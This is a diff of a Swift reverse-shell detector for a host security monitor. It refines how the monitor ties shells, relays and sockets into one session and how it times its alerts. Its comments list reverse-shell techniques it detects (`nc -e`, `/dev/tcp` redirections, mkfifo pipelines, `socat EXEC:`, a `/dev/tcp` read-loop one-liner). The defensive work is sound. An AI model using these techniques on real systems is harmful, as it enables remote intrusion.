@@ -1,13 +1,20 @@
 // SPDX-License-Identifier: Apache-2.0
 // Rule "Reverse shell" (T1059.004): a shell or interpreter whose input AND output lead to a network
-// peer. Three shapes, all judged from descriptors 0-2 that capture read, never from command-line text:
+// peer. Judged from descriptors 0-2 that capture read and from process relations, never from
+// command-line text (except the launcher-tool options of ReverseShellToolMatcher):
 //   1. direct: the shell's own stdin and stdout/stderr are a connected inet socket (`nc -e`, bash
-//      `/dev/tcp` redirections, perl/ruby/php `exec` after dup);
-//   2. relayed: the shell's stdio are pipes, fifos or a pty whose other ends are held by a process that
-//      talks to the network (`mkfifo` pipelines, `telnet | sh | telnet`, python `pty.spawn`, node
-//      `child_process`, gawk `/inet` coprocesses);
-//   3. launched: a network tool started to run a program on its socket (`nc -e`, `ncat --sh-exec`,
-//      `socat … EXEC:`); reported on the shell it starts, or on the tool if no shell follows in time.
+//      `/dev/tcp` and `/dev/udp` redirections, perl/python dup2 then exec);
+//   2. relayed: the shell's stdio are pipes or fifos whose other ends are held by a pipeline member
+//      that talks to the network (`mkfifo` pipelines, `telnet | sh | telnet`, `openssl s_client`);
+//   3. relayed by the parent: a pty, pipes or a socketpair only its parent holds, and that parent
+//      connected out (python `pty.spawn`, node `child_process.spawn`, `ncat -e`, `socat EXEC:`,
+//      awk `/inet` command loops);
+//   4. launched: a network tool started to run a program on its socket; reported on the shell it
+//      starts, or on the tool if no shell shows up in time.
+// One alert per session: a session is the set of processes and sockets that carry one connection
+// (the shell, its forks, its relay, the interpreter that spawned it). The alert names the shell; an
+// interpreter that qualifies on its own waits `interpreterGraceNanoseconds` for a shell of its
+// session, so which process is named does not depend on the order the events arrived in.
 // Requiring both directions keeps `curl … | sh` (input only) and `echo | nc` (output only) quiet.
 
 public struct ReverseShellDetector: Detector {
@@ -15,8 +22,13 @@ public struct ReverseShellDetector: Detector {
 
     /// How long a tool launch waits for the shell it starts before it is reported on its own.
     public var launchGraceNanoseconds: UInt64 = 2_000_000_000
+    /// How long an interpreter with network stdio waits for a shell of its session to be named instead.
+    public var interpreterGraceNanoseconds: UInt64 = 1_000_000_000
     /// How long a process counts as networked after an outbound connect event.
     public var connectMemoryNanoseconds: UInt64 = 600_000_000_000
+    /// A parent relaying a shell over a private channel (pipes, socketpair, pty) must have connected
+    /// out at most this long before the shell started, or while it runs.
+    public var relayConnectWindowNanoseconds: UInt64 = 10_000_000_000
 
     private struct Launch: Sendable {
         var record: EventRecord
@@ -24,35 +36,73 @@ public struct ReverseShellDetector: Detector {
         var remote: (address: String, port: UInt16)?
         var deadline: UInt64
     }
-    private struct ShellKey: Hashable, Sendable { var pid: ProcessID; var serial: UInt64 }
 
-    /// Tool launches waiting for their shell, by tool pid. Bounded by `maxTracked`.
+    /// What ties findings to one connection: processes and socket inodes.
+    private struct Session: Sendable {
+        var processes: Set<ProcessKey> = []
+        var inodes: Set<UInt64> = []
+        func overlaps(_ other: Session) -> Bool {
+            !processes.isDisjoint(with: other.processes) || !inodes.isDisjoint(with: other.inodes)
+        }
+        mutating func merge(_ other: Session) { processes.formUnion(other.processes); inodes.formUnion(other.inodes) }
+    }
+
+    /// An interpreter that qualified; reported at `deadline` unless a shell of its session is first.
+    private struct Pending: Sendable {
+        var alert: Alert
+        var session: Session
+        var key: ProcessKey
+        var deadline: UInt64
+    }
+
     private var launches: [ProcessID: Launch] = [:]
-    /// Processes that made an outbound connect: pid → (serial, remote, time). Bounded.
-    private var connected: [ProcessID: (serial: UInt64, address: String, port: UInt16, at: UInt64)] = [:]
-    /// Shells already reported (one alert per shell process). Bounded FIFO.
-    private var reported: Set<ShellKey> = []
-    private var reportedOrder: [ShellKey] = []
+    private var connected: [ProcessID: RememberedConnect] = [:]
+    /// Sessions already reported, oldest first. Bounded by `maxSessions`.
+    private var sessions: [Session] = []
+    private var pending: [Pending] = []
     private let maxTracked = 4096
+    private let maxSessions = 1024
 
     public init() {}
 
     public mutating func inspect(_ record: EventRecord, context: DetectionContext) -> [Alert] {
-        var alerts = expireLaunches(now: record.timestamp, context: context)
+        var alerts = expire(now: record.timestamp, context: context)
         switch record.event {
         case .exec(let info), .snapshot(let info):
-            if let a = evaluate(info.pid, record: record, context: context) { alerts.append(a) }
+            alerts += judge(info.pid, record: record, context: context)
             noteLaunch(info, record: record)
+            // The exec of a process that already connected (connect delivered first): its pipeline
+            // peers were judged against the pre-exec image.
+            if connected[info.pid] != nil { alerts += judgePeers(of: info.pid, record: record, context: context) }
+            alerts += judgeCommandLoop(child: info, record: record, context: context)
+            // A command whose output is a network socket: its shell may be a read loop on that peer.
+            if let ppid = info.ppid, (info.fds ?? []).contains(where: { ($0.fd == 1 || $0.fd == 2) && $0.socket?.isConnectedInet == true }) {
+                alerts += judge(ppid, record: record, context: context)
+            }
         case .descriptors(let d):
-            if let a = evaluate(d.pid, record: record, context: context) { alerts.append(a) }
-            alerts += evaluatePeers(of: d.pid, record: record, context: context)
-        case .connect(let c) where c.result == 0 || c.result == 115:   // EINPROGRESS: non-blocking
+            alerts += judge(d.pid, record: record, context: context)
+            alerts += judgePeers(of: d.pid, record: record, context: context)
+        // EINPROGRESS (115): a non-blocking connect in flight. Port 0 is no peer: resolvers connect a
+        // UDP socket to port 0 to probe routes (getaddrinfo's AI_ADDRCONFIG), which must not
+        // replace the real connection that follows.
+        case .connect(let c) where (c.result == 0 || c.result == 115) && c.remotePort != 0:
             let serial = context.state.process(c.pid)?.serial ?? 0
             if connected.count >= maxTracked { connected.removeAll(keepingCapacity: true) }
-            connected[c.pid] = (serial, c.remoteAddress, c.remotePort, record.timestamp)
-            alerts += evaluatePeers(of: c.pid, record: record, context: context)
+            connected[c.pid] = RememberedConnect(serial: serial, address: c.remoteAddress, port: c.remotePort, at: record.timestamp)
+            alerts += judge(c.pid, record: record, context: context)
+            alerts += judgePeers(of: c.pid, record: record, context: context)
+            // The connect (audit) can arrive after the exec (proc connector) of a command it led to.
+            for child in context.state.processes.children(of: c.pid)
+            where child.origin != .fork && child.firstSeen &+ 1_000_000_000 >= record.timestamp {
+                alerts += judgeCommandLoop(child: child.info, record: record, context: context)
+            }
         case .exit(let e):
-            if let launch = launches.removeValue(forKey: e.pid) { alerts.append(launchAlert(launch, context: context)) }
+            if let launch = launches.removeValue(forKey: e.pid) { alerts += launchAlert(launch, context: context) }
+            if let i = pending.firstIndex(where: { $0.key.pid == e.pid }) {
+                let p = pending.remove(at: i)
+                alerts.append(p.alert)
+                remember(p.session)
+            }
             connected[e.pid] = nil
         default:
             break
@@ -62,59 +112,169 @@ public struct ReverseShellDetector: Detector {
 
     // MARK: - Judging one process
 
-    /// Alerts if `pid` is a shell-like process whose input and output both lead to the network.
-    private mutating func evaluate(_ pid: ProcessID, record: EventRecord, context: DetectionContext) -> Alert? {
-        guard let proc = context.state.process(pid), proc.isAlive, ProgramClassifier.isShellOrInterpreter(proc.info) else { return nil }
-        let key = ShellKey(pid: pid, serial: proc.serial)
-        guard !reported.contains(key), let fds = proc.info.fds else { return nil }
+    private struct Finding {
+        var proc: ProcessRecord
+        var input: NetworkPeer
+        var output: NetworkPeer
+        var socketFDs: [String]
+        var session: Session
+        var launch: Launch?
+        var relay: ProcessKey?
+    }
 
-        var input: Peer?
-        var output: Peer?
+    private func evidence(_ context: DetectionContext, now: UInt64) -> ReverseShellEvidence {
+        ReverseShellEvidence(state: context.state, connects: connected, now: now, connectMemory: connectMemoryNanoseconds,
+                             relayConnectWindow: relayConnectWindowNanoseconds)
+    }
+
+    /// Judges `pid` and turns a finding into an alert, a pending interpreter alert, or nothing (its
+    /// session was already reported).
+    private mutating func judge(_ pid: ProcessID, record: EventRecord, context: DetectionContext) -> [Alert] {
+        guard let finding = find(pid, record: record, context: context) else { return [] }
+        return report(finding, record: record, context: context)
+    }
+
+    private mutating func report(_ finding: Finding, record: EventRecord, context: DetectionContext) -> [Alert] {
+        let pid = finding.proc.pid
+        let kind = ProgramClassifier.kind(of: finding.proc.info)
+        if sessions.contains(where: { $0.overlaps(finding.session) }) {
+            if let i = sessions.firstIndex(where: { $0.overlaps(finding.session) }) { sessions[i].merge(finding.session) }
+            return []
+        }
+        let matching = pending.indices.filter { pending[$0].session.overlaps(finding.session) }
+        if kind == .interpreter {
+            if let i = matching.first {
+                pending[i].session.merge(finding.session)
+                return []
+            }
+            guard let alert = makeAlert(finding, record: record, context: context) else { return [] }
+            pending.append(Pending(alert: alert, session: finding.session, key: ProcessKey(finding.proc),
+                                   deadline: record.timestamp &+ interpreterGraceNanoseconds))
+            return []
+        }
+        var session = finding.session
+        for i in matching.reversed() { session.merge(pending.remove(at: i).session) }
+        guard let alert = makeAlert(finding, record: record, context: context) else { return [] }
+        remember(session)
+        if let launch = finding.launch { launches[launch.record.event.pid ?? pid] = nil }
+        return [alert]
+    }
+
+    /// Whether `pid` is a shell-like process whose input and output both lead to the network.
+    private func find(_ pid: ProcessID, record: EventRecord, context: DetectionContext) -> Finding? {
+        guard let proc = context.state.process(pid), proc.isAlive, ProgramClassifier.isShellOrInterpreter(proc.info),
+              let fds = proc.info.fds else { return nil }
+        let ev = evidence(context, now: record.timestamp)
+        var input: NetworkPeer?
+        var output: NetworkPeer?
         var socketFDs: [String] = []
         for fd in fds where (0...2).contains(fd.fd) {
-            guard let peer = networkPeer(of: fd, holder: proc, context: context, now: record.timestamp) else { continue }
+            guard let peer = ev.peer(of: fd, holder: proc) else { continue }
             if peer.viaSocket { socketFDs.append(String(fd.fd)) }
             if fd.fd == 0 { input = input ?? peer } else { output = output ?? peer }
         }
-        // A pty slave relayed by a networked parent (python pty.spawn, socat …,pty).
-        if input == nil || output == nil, let tty = fds.first(where: { $0.fd == 0 && $0.kind == .tty }), tty.target.hasPrefix("/dev/pts/"),
-           let parent = proc.ppid.flatMap({ context.state.process($0) }), let peer = networked(parent, context: context, now: record.timestamp) {
-            input = input ?? peer
-            output = output ?? peer
+        // A pty slave whose master the parent holds (python pty.spawn, socat …,pty), or pipes or a
+        // socketpair only the parent holds (node spawn, ncat -e, socat EXEC:, awk command loops).
+        if input == nil || output == nil, let relay = parentPeer(proc, fds: fds, ev: ev) {
+            input = input ?? relay
+            output = output ?? relay
         }
         // `cat fifo | sh | nc host port > fifo`: cat opens the fifo by name (not on its fds 0-2), so
         // the input side is invisible; a networked peer that feeds a named pipe closes the loop.
-        if (input == nil) != (output == nil), let known = input ?? output, let relay = known.process,
-           let relayProc = context.state.process(relay), feedsNamedPipe(relayProc) {
+        if (input == nil) != (output == nil), let known = input ?? output, let relay = known.holder,
+           relay.pid != pid, let relayProc = context.state.process(relay.pid), ev.feedsNamedPipe(relayProc) {
             input = input ?? known
             output = output ?? known
         }
+        // `exec 5<>/dev/tcp/h/p; cat <&5 | while read l; do $l >&5 2>&5; done`: the loop (a subshell)
+        // reads the connection through cat and each command it runs writes to that same peer.
+        // The commands often finish before capture can read them; but the loop is a fork of the
+        // shell that opened the connection, so it holds that connection too (inherited at fork).
+        if let known = input, output == nil {
+            output = ev.childOutput(of: proc, to: known) ?? ev.inheritedConnection(of: proc, to: known)
+        }
         let launch = launchFor(proc, context: context)
-        if (input == nil || output == nil), let launch {
+        if input == nil || output == nil, let launch {
             // The tool said it runs this program on its socket; its own socket may not be on 0-2.
-            let peer = Peer(process: launch.record.event.pid, address: launch.remote?.address, port: launch.remote?.port, viaSocket: false)
+            let tool = context.state.process(launch.record.event.pid ?? pid).map(ProcessKey.init)
+            let remote = launchRemote(launch)
+            let peer = NetworkPeer(holder: tool, address: remote?.address, port: remote?.port, viaSocket: false, socketInode: nil)
             input = input ?? peer
             output = output ?? peer
         }
         guard let inPeer = input, let outPeer = output else { return nil }
-        let remote = inPeer.address != nil ? inPeer : outPeer
+        var session = Session(processes: [ProcessKey(proc)], inodes: ev.socketInodes(of: proc))
+        for peer in [inPeer, outPeer] {
+            if let h = peer.holder {
+                session.processes.insert(h)
+                if let holder = context.state.process(h.pid) { session.inodes.formUnion(ev.socketInodes(of: holder)) }
+            }
+            if let i = peer.socketInode { session.inodes.insert(i) }
+        }
+        // A fork that has not exec'd (a subshell, or a busybox applet run in the fork) is its
+        // parent's session, whatever it does with the descriptors it inherited.
+        if proc.origin == .fork, let parent = proc.ppid.flatMap({ context.state.process($0) }) {
+            session.processes.insert(ProcessKey(parent))
+        }
+        let relay = [inPeer, outPeer].first(where: { !$0.viaSocket && $0.holder?.pid != pid })?.holder
+        return Finding(proc: proc, input: inPeer, output: outPeer, socketFDs: socketFDs, session: session, launch: launch, relay: relay)
+    }
+
+    /// awk/python/… one-liners that read commands from their connection and run each one
+    /// (`gawk '/inet/tcp/…' … c | getline`): the command is started with its output on a channel
+    /// only the interpreter holds, and often finishes before capture can read it (busybox `sh -c id`
+    /// lives well under a millisecond). So: an inline interpreter program that connected out within
+    /// `relayConnectWindowNanoseconds` starts a command whose stdout/stderr is a private channel back
+    /// to it, or could not be read at all. The interpreter is the reverse shell; a shell of its
+    /// session that shows up within the interpreter grace is named instead.
+    private mutating func judgeCommandLoop(child: ProcessInfo, record: EventRecord, context: DetectionContext) -> [Alert] {
+        guard let ppid = child.ppid, let parent = context.state.process(ppid), parent.isAlive,
+              ProgramClassifier.kind(of: parent.info) == .interpreter, ProgramClassifier.isOneLiner(parent.info),
+              let childRecord = context.state.process(child.pid) else { return [] }
+        let ev = evidence(context, now: record.timestamp)
+        guard let c = ev.recentConnect(parent, within: relayConnectWindowNanoseconds) else { return [] }
+        let outputToParent = child.fds.map { fds in
+            fds.contains { ($0.fd == 1 || $0.fd == 2) && ev.isPrivateChannel($0, of: childRecord) }
+        } ?? true
+        guard outputToParent else { return [] }
+        let peer = NetworkPeer(holder: ProcessKey(parent), address: c.address, port: c.port, viaSocket: false, socketInode: nil)
+        let finding = Finding(proc: parent, input: peer, output: peer, socketFDs: [],
+                              session: Session(processes: [ProcessKey(parent), ProcessKey(childRecord)]), launch: nil, relay: nil)
+        return report(finding, record: record, context: context)
+    }
+
+    /// The parent's network peer when the parent holds `proc`'s pty master or private channels.
+    private func parentPeer(_ proc: ProcessRecord, fds: [DescriptorInfo], ev: ReverseShellEvidence) -> NetworkPeer? {
+        let onPty = fds.contains { $0.fd == 0 && $0.kind == .tty && $0.target.hasPrefix("/dev/pts/") }
+        if onPty, let parent = proc.ppid.flatMap({ ev.state.process($0) }) {
+            // The parent's own stdio is its outbound socket (python dup2 then pty.spawn) …
+            if let p = ev.networked(parent), p.socketInode != nil { return p }
+            // … or it is a network tool or interpreter that connected out just before (socat …,pty).
+            let kind = ProgramClassifier.kind(of: parent.info)
+            if kind == .interpreter || kind == .networkTool,
+               let c = ev.recentConnect(parent, within: connectMemoryNanoseconds), c.at &+ relayConnectWindowNanoseconds >= proc.firstSeen {
+                return NetworkPeer(holder: ProcessKey(parent), address: c.address, port: c.port, viaSocket: false, socketInode: nil)
+            }
+        }
+        return ev.parentRelay(of: proc, fds: fds)
+    }
+
+    private func makeAlert(_ f: Finding, record: EventRecord, context: DetectionContext) -> Alert? {
+        let pid = f.proc.pid
+        let remote = f.input.address != nil ? f.input : f.output
         if let address = remote.address, let port = remote.port,
            context.allowEntry(for: .reverseShell, pid: pid, target: .destination(address: address, port: port)) != nil { return nil }
         if remote.address == nil, context.allowEntry(for: .reverseShell, pid: pid) != nil { return nil }
-
-        markReported(key)
-        var technique = socketFDs.count == 3 || (socketFDs.contains("0") && socketFDs.count >= 2)
+        var technique = f.socketFDs.count == 3 || (f.socketFDs.contains("0") && f.socketFDs.count >= 2)
             ? "stdio is a network socket" : "stdio relayed through pipes or a pty to a networked process"
         var extra: [String: FieldValue] = [
             "fd.rip": FieldValue(remote.address), "fd.rport": FieldValue(remote.port),
-            "rw.socket_fds": .list(socketFDs),
+            "rw.socket_fds": .list(f.socketFDs),
         ]
-        if let relay = [inPeer, outPeer].first(where: { !$0.viaSocket })?.process, relay != pid,
-           let relayProc = context.state.process(relay) {
-            extra["rw.relay"] = .string("\(relayProc.info.name ?? "?")(\(relay))")
+        if let relay = f.relay, let relayProc = context.state.process(relay.pid) {
+            extra["rw.relay"] = .string("\(relayProc.info.name ?? "?")(\(relay.pid))")
         }
-        if let launch {
-            launches[launch.record.event.pid ?? pid] = nil
+        if let launch = f.launch {
             extra["rw.launcher"] = .string("\(launch.match.tool) \(launch.match.option) \(launch.match.program)")
             technique = "\(launch.match.tool) \(launch.match.option)"
         }
@@ -122,92 +282,73 @@ public struct ReverseShellDetector: Detector {
         return context.alert(.reverseShell, output: Self.shellTemplate, record: record, pid: pid, extra: extra)
     }
 
-    /// Re-judges the shells that share a pipe with `pid` (a pipeline member just became networked).
-    private mutating func evaluatePeers(of pid: ProcessID, record: EventRecord, context: DetectionContext) -> [Alert] {
-        guard let proc = context.state.process(pid), let fds = proc.info.fds else { return [] }
+    /// Re-judges the shells wired to `pid`: pipeline members sharing a pipe with it (one more hop for
+    /// `cat fifo | sh | nc`), and its children (a relay that connected after spawning its shell).
+    private mutating func judgePeers(of pid: ProcessID, record: EventRecord, context: DetectionContext) -> [Alert] {
+        guard let proc = context.state.process(pid) else { return [] }
         var alerts: [Alert] = []
         var seen: Set<ProcessID> = [pid]
-        for fd in fds where (0...2).contains(fd.fd) && fd.kind == .pipe {
+        for fd in proc.info.fds ?? [] where (0...2).contains(fd.fd) && fd.kind == .pipe {
             guard let inode = fd.inode else { continue }
             for holder in context.state.processes(holdingInode: inode) where seen.insert(holder.pid).inserted {
-                if let a = evaluate(holder.pid, record: record, context: context) { alerts.append(a) }
-                // One more hop: `cat fifo | sh | nc` links sh to nc through cat.
+                alerts += judge(holder.pid, record: record, context: context)
                 for fd2 in holder.info.fds ?? [] where (0...2).contains(fd2.fd) && fd2.kind == .pipe {
                     guard let inode2 = fd2.inode, inode2 != inode else { continue }
                     for h2 in context.state.processes(holdingInode: inode2) where seen.insert(h2.pid).inserted {
-                        if let a = evaluate(h2.pid, record: record, context: context) { alerts.append(a) }
+                        alerts += judge(h2.pid, record: record, context: context)
                     }
                 }
+            }
+        }
+        for child in context.state.processes.children(of: pid) where child.isAlive && seen.insert(child.pid).inserted {
+            alerts += judge(child.pid, record: record, context: context)
+        }
+        return alerts
+    }
+
+    // MARK: - Sessions and deadlines
+
+    private mutating func remember(_ session: Session) {
+        sessions.append(session)
+        if sessions.count > maxSessions { sessions.removeFirst(sessions.count - maxSessions) }
+    }
+
+    private mutating func expire(now: UInt64, context: DetectionContext) -> [Alert] {
+        var alerts: [Alert] = []
+        if !pending.isEmpty {
+            let due = pending.filter { $0.deadline <= now }
+            pending.removeAll { $0.deadline <= now }
+            for p in due {
+                alerts.append(p.alert)
+                remember(p.session)
+            }
+        }
+        if launches.values.contains(where: { $0.deadline <= now }) {
+            for (pid, launch) in launches.sorted(by: { $0.key < $1.key }) where launch.deadline <= now {
+                launches[pid] = nil
+                alerts += launchAlert(launch, context: context)
             }
         }
         return alerts
     }
 
-    // MARK: - Peers
-
-    private struct Peer {
-        var process: ProcessID?
-        var address: String?
-        var port: UInt16?
-        var viaSocket: Bool
-    }
-
-    /// Where descriptor `fd` of `holder` leads: the network directly (a connected inet socket), or a
-    /// networked process at the other end of a pipe/fifo (up to two hops), else nil.
-    private func networkPeer(of fd: DescriptorInfo, holder: ProcessRecord, context: DetectionContext, now: UInt64) -> Peer? {
-        if fd.kind == .socket, let s = fd.socket, s.isConnectedInet {
-            return Peer(process: holder.pid, address: s.remoteAddress, port: s.remotePort, viaSocket: true)
-        }
-        guard fd.kind == .pipe, let inode = fd.inode else { return nil }
-        var visited: Set<ProcessID> = [holder.pid]
-        var frontier: [UInt64] = [inode]
-        var seenInodes: Set<UInt64> = [inode]
-        for _ in 0..<2 {
-            var next: [UInt64] = []
-            for ino in frontier {
-                for other in context.state.processes(holdingInode: ino) where visited.insert(other.pid).inserted {
-                    if let p = networked(other, context: context, now: now) { return p }
-                    for f in other.info.fds ?? [] where (0...2).contains(f.fd) && f.kind == .pipe {
-                        if let i = f.inode, seenInodes.insert(i).inserted { next.append(i) }
-                    }
-                }
-            }
-            frontier = next
-        }
-        return nil
-    }
-
-    /// A process that talks to the network: a connected inet socket on 0-2, or a recent outbound connect.
-    private func networked(_ proc: ProcessRecord, context: DetectionContext, now: UInt64) -> Peer? {
-        guard proc.isAlive else { return nil }
-        for fd in proc.info.fds ?? [] where (0...2).contains(fd.fd) {
-            if fd.kind == .socket, let s = fd.socket, s.isConnectedInet {
-                return Peer(process: proc.pid, address: s.remoteAddress, port: s.remotePort, viaSocket: false)
-            }
-        }
-        if let c = connected[proc.pid], c.serial == proc.serial || c.serial == 0, now &- c.at <= connectMemoryNanoseconds {
-            return Peer(process: proc.pid, address: c.address, port: c.port, viaSocket: false)
-        }
-        return nil
-    }
-
-    /// True when `proc` has a named pipe (a `pipe` whose target is a path) on fd 0 or 1.
-    private func feedsNamedPipe(_ proc: ProcessRecord) -> Bool {
-        (proc.info.fds ?? []).contains { ($0.fd == 0 || $0.fd == 1) && $0.kind == .pipe && $0.target.hasPrefix("/") }
-    }
-
-
     // MARK: - Tool launches
 
     private mutating func noteLaunch(_ info: ProcessInfo, record: EventRecord) {
-        guard let name = ProgramClassifier.effectiveName(exe: info.exe, argv: info.argv, comm: info.comm),
-              ProgramClassifier.kind(ofName: name) == .networkTool,
-              let argv = info.argv,
-              let match = ReverseShellToolMatcher.match(name: argv.first.map(ProgramClassifier.baseName) == "busybox" ? "busybox" : name, argv: argv)
-                ?? ReverseShellToolMatcher.match(name: name, argv: argv) else { return }
+        guard let name = ProgramClassifier.name(of: info), ProgramClassifier.kind(ofName: name) == .networkTool,
+              let argv = info.argv else { return }
+        let viaBusybox = argv.first.map(ProgramClassifier.baseName) == "busybox"
+        let toolName = viaBusybox ? "busybox" : name
+        guard let match = ReverseShellToolMatcher.match(name: toolName, argv: argv) else { return }
         if launches.count >= maxTracked { launches.removeAll(keepingCapacity: true) }
-        launches[info.pid] = Launch(record: record, match: match, remote: ToolRemote.parse(name: name, argv: argv),
+        launches[info.pid] = Launch(record: record, match: match, remote: ReverseShellToolMatcher.remote(name: toolName, argv: argv),
                                     deadline: record.timestamp &+ launchGraceNanoseconds)
+    }
+
+    /// Where the launched tool connected: its outbound connect when seen, else what argv said.
+    private func launchRemote(_ launch: Launch) -> (address: String, port: UInt16)? {
+        if let pid = launch.record.event.pid, let c = connected[pid] { return (c.address, c.port) }
+        return launch.remote
     }
 
     /// The pending launch of `proc` itself (nc -e execs the shell in place) or of an ancestor.
@@ -219,57 +360,24 @@ public struct ReverseShellDetector: Detector {
         return nil
     }
 
-    private mutating func expireLaunches(now: UInt64, context: DetectionContext) -> [Alert] {
-        guard !launches.isEmpty else { return [] }
-        var alerts: [Alert] = []
-        for (pid, launch) in launches where launch.deadline <= now {
-            launches[pid] = nil
-            alerts.append(launchAlert(launch, context: context))
+    /// The alert for a launch no shell was seen for, unless its session was already reported.
+    private mutating func launchAlert(_ launch: Launch, context: DetectionContext) -> [Alert] {
+        let pid = launch.record.event.pid
+        if let pid, let tool = context.state.process(pid) {
+            let key = ProcessKey(tool)
+            if sessions.contains(where: { $0.processes.contains(key) }) { return [] }
+            remember(Session(processes: [key]))
         }
-        return alerts
-    }
-
-    private func launchAlert(_ launch: Launch, context: DetectionContext) -> Alert {
+        let remote = launchRemote(launch)
         let extra: [String: FieldValue] = [
-            "fd.rip": FieldValue(launch.remote?.address), "fd.rport": FieldValue(launch.remote?.port),
+            "fd.rip": FieldValue(remote?.address), "fd.rport": FieldValue(remote?.port),
             "rw.socket_fds": .list([]),
             "rw.launcher": .string("\(launch.match.tool) \(launch.match.option) \(launch.match.program)"),
             "rw.technique": .string("\(launch.match.tool) \(launch.match.option)"),
         ]
-        return context.alert(.reverseShell, output: Self.launchTemplate, record: launch.record,
-                             pid: launch.record.event.pid, extra: extra)
-    }
-
-    private mutating func markReported(_ key: ShellKey) {
-        reported.insert(key)
-        reportedOrder.append(key)
-        if reportedOrder.count > maxTracked {
-            let drop = reportedOrder.prefix(maxTracked / 4)
-            for k in drop { reported.remove(k) }
-            reportedOrder.removeFirst(drop.count)
-        }
+        return [context.alert(.reverseShell, output: Self.launchTemplate, record: launch.record, pid: pid, extra: extra)]
     }
 
     static let shellTemplate = "%proc.name (pid=%proc.pid cmdline=%proc.cmdline) has its input and output connected to %fd.rip:%fd.rport (technique=%rw.technique parent=%proc.pname container=%container.id pod=%k8s.ns.name/%k8s.pod.name)"
     static let launchTemplate = "Network tool launched to run a program on its socket: %proc.cmdline (pid=%proc.pid) runs a program on its socket to %fd.rip:%fd.rport (technique=%rw.technique container=%container.id pod=%k8s.ns.name/%k8s.pod.name)"
-}
-
-/// The remote end a tool was told to connect to, from its argv (for alerts on launches whose socket
-/// was never seen).
-enum ToolRemote {
-    static func parse(name: String, argv: [String]) -> (address: String, port: UInt16)? {
-        if name == "socat" {
-            for a in argv.dropFirst() where !a.hasPrefix("-") {
-                let parts = a.split(separator: ":", omittingEmptySubsequences: false).map(String.init)
-                guard parts.count >= 3, parts[0].uppercased().hasPrefix("TCP") || parts[0].uppercased().hasPrefix("UDP"),
-                      let port = UInt16(parts[2].split(separator: ",").first ?? "") else { continue }
-                return (parts[1], port)
-            }
-            return nil
-        }
-        // nc/ncat: the last two positional arguments are host and port.
-        let positional = argv.dropFirst().filter { !$0.hasPrefix("-") }
-        guard positional.count >= 2, let port = UInt16(positional[positional.count - 1]) else { return nil }
-        return (positional[positional.count - 2], port)
-    }
 }
